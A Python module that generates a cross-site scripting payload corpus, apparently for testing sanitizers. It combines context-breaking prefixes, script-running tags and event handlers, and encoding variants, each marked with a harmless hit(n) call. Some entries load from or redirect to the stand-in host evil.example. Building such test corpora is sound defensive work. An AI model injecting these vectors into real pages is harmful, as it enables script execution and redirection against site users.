"""A corpus of markup that wants to run: ways out of a place, things that run, ways to write them.

Each payload calls `hit(number)` if it ever runs, so that a browser can say which one did.
"""

from collections.abc import Callable
from itertools import product
from urllib.parse import quote

OUT = (
    "",
    '">',
    "'>",
    '" x="',
    "' x='",
    "</title>",
    "</textarea>",
    "</option></select>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
)
"""What ends the place where a text may stand."""
RUN = (
    "<script>hit({n})</script>",
    "<img src=x onerror=hit({n})>",
    "<svg onload=hit({n})>",
    "<svg><animate onbegin=hit({n}) attributeName=x></svg>",
    "<details open ontoggle=hit({n})>x</details>",
    "<input autofocus onfocus=hit({n})>",
    "<iframe srcdoc='<script>parent.hit({n})</script>'></iframe>",
    "<iframe src=javascript:parent.hit({n})></iframe>",
    "<object data=javascript:hit({n})></object>",
    "<a href=javascript:hit({n}) id=click>x</a>",
    "<form action=javascript:hit({n})><button id=click>x</button></form>",
    "<math><mtext><img src=x onerror=hit({n})></mtext></math>",
    "<style>@import '//evil.example/{n}.css';*{{background:url(//evil.example/{n})}}</style>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<base href=//evil.example/{n}/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    " onmouseover=hit({n}) autofocus onfocus=hit({n}) style=position:fixed;inset:0 ",
    "javascript:hit({n})//",
    "{{{{ hit({n}) }}}}{{% raw %}}${{hit({n})}}",
)
"""What runs, loads from elsewhere or leads away, if it becomes part of a page."""
WRITE: tuple[Callable[[str], str], ...] = (
    str,
    lambda text: text.upper().replace("HIT(", "hit("),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: quote(text, safe=""),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace(" ", "/", 1).replace("=", "\u00a0=", 1),
)
"""Ways of writing that something on the way might undo."""
CORPUS = tuple(
    write(out + run.format(n=number))
    for number, (out, run, write) in enumerate(product(OUT, RUN, WRITE))
    # Every way out with everything that runs, plainly; written otherwise only where nothing is
    # left or a quoted attribute is.
    if write is WRITE[0] or out in OUT[:3]
)
